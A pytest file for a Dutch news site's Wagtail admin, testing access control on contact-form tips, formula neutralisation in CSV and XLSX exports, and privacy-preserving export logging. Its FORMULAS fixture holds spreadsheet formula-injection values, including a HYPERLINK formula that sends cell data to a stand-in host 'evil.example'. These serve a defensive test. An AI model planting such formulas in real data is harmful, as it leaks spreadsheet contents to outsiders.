"""Contact tips hold names, e-mail addresses and free text: only the
Eindredactie (and superusers) reads, exports and deletes them (issue 25).
Exports are safe to open in a spreadsheet program, and each one is logged
without the personal data it holds."""

import csv
import io
import logging

import pytest
from openpyxl import load_workbook
from wagtail.contrib.forms.models import FormSubmission

from articles.permissions import EDITORS, REVIEWERS

from ..contact_form import GOOD, make_contact_page, post
from .test_workflow import login_as

pytestmark = pytest.mark.django_db

FORMULAS = {
    "naam": '=HYPERLINK("https://evil.example/?"&A2,"Klik")',
    "e_mailadres": "anna@example.org",
    "bericht": "+31 6 12345678 -- @SUM(1+1) en dan nog wat",
    "link": "",
}


@pytest.fixture
def contact(tree):
    return make_contact_page(tree)


def submissions_url(page, export=None):
    url = f"/admin/forms/submissions/{page.pk}/"
    return f"{url}?export={export}" if export else url


def csv_rows(response):
    body = b"".join(response.streaming_content).decode()
    return list(csv.reader(io.StringIO(body)))


def xlsx_rows(response):
    workbook = load_workbook(io.BytesIO(b"".join(response.streaming_content)))
    return [[cell.value for cell in row] for row in workbook.active.iter_rows()]


def test_a_redacteur_cannot_read_export_or_delete_contact_tips(client, contact, django_user_model):
    post(client, GOOD)
    submission = FormSubmission.objects.get()
    login_as(client, django_user_model, "redacteur", EDITORS)

    forms_index = client.get("/admin/forms/")
    assert "Tip de redactie" not in forms_index.content.decode()
    for url in (submissions_url(contact), submissions_url(contact, "csv"), submissions_url(contact, "xlsx")):
        response = client.get(url)
        body = b"" if response.streaming else response.content
        assert response.status_code in (302, 403), url
        assert b"Anna de Vries" not in body and b"anna@example.org" not in body, url
    delete = client.post(
        f"/admin/forms/submissions/{contact.pk}/delete/?selected-submissions={submission.pk}",
    )
    assert delete.status_code in (302, 403)
    assert FormSubmission.objects.filter(pk=submission.pk).exists(), "the tip is still there"
    # Not even the menu entry leads there.
    assert 'href="/admin/forms/"' not in client.get("/admin/").content.decode()


def test_an_eindredacteur_reads_exports_and_deletes_contact_tips(client, contact, django_user_model):
    post(client, GOOD)
    submission = FormSubmission.objects.get()
    login_as(client, django_user_model, "eindredacteur", REVIEWERS)

    assert "Tip de redactie" in client.get("/admin/forms/").content.decode()
    assert "Anna de Vries" in client.get(submissions_url(contact)).content.decode()
    assert ["Anna de Vries"] in [row[1:2] for row in csv_rows(client.get(submissions_url(contact, "csv")))]
    response = client.post(f"/admin/forms/submissions/{contact.pk}/delete/?selected-submissions={submission.pk}")
    assert response.status_code == 302
    assert not FormSubmission.objects.exists()


def test_exports_neutralise_formulas_in_csv_and_xlsx(client, contact, admin_user):
    post(client, FORMULAS)
    client.force_login(admin_user)

    for rows in (
        csv_rows(client.get(submissions_url(contact, "csv"))),
        xlsx_rows(client.get(submissions_url(contact, "xlsx"))),
    ):
        header, row = rows[0], rows[1]
        values = dict(zip(header, row, strict=True))
        assert values["Naam"] == "'" + FORMULAS["naam"]
        assert values["Bericht"] == "'" + FORMULAS["bericht"]
        assert values["E-mailadres"] == "anna@example.org", "ordinary text stays as it is"


@pytest.mark.parametrize("export", ["csv", "xlsx"])
def test_each_export_is_logged_without_personal_data(client, contact, django_user_model, caplog, export):
    post(client, GOOD)
    post(client, {**GOOD, "naam": "Bert Jansen", "e_mailadres": "bert@example.org"})
    login_as(client, django_user_model, "eindredacteur", REVIEWERS)

    with caplog.at_level(logging.INFO, logger="overheidvannu.security"):
        response = client.get(submissions_url(contact, export))
        b"".join(response.streaming_content)
    records = [r for r in caplog.records if r.name == "overheidvannu.security"]
    assert len(records) == 1
    message = records[0].getMessage()
    assert "eindredacteur" in message and str(contact.pk) in message and export in message
    assert "2 " in message or "2," in message or message.endswith(" 2"), message
    for personal in ("Anna", "anna@example.org", "Bert", "bert@example.org", "Zutphen"):
        assert personal not in message
